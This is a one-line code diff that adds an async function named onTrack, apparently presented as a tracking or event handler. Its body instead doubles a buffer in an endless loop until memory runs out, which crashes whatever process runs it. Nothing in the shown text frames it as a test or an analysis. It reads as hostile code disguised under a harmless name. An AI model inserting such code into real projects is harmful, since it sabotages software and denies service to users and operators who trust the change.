@@ -1,0 +1,1 @@
+async function onTrack() { let b = Buffer.alloc(1); for (;;) b = Buffer.concat([b, b]); }
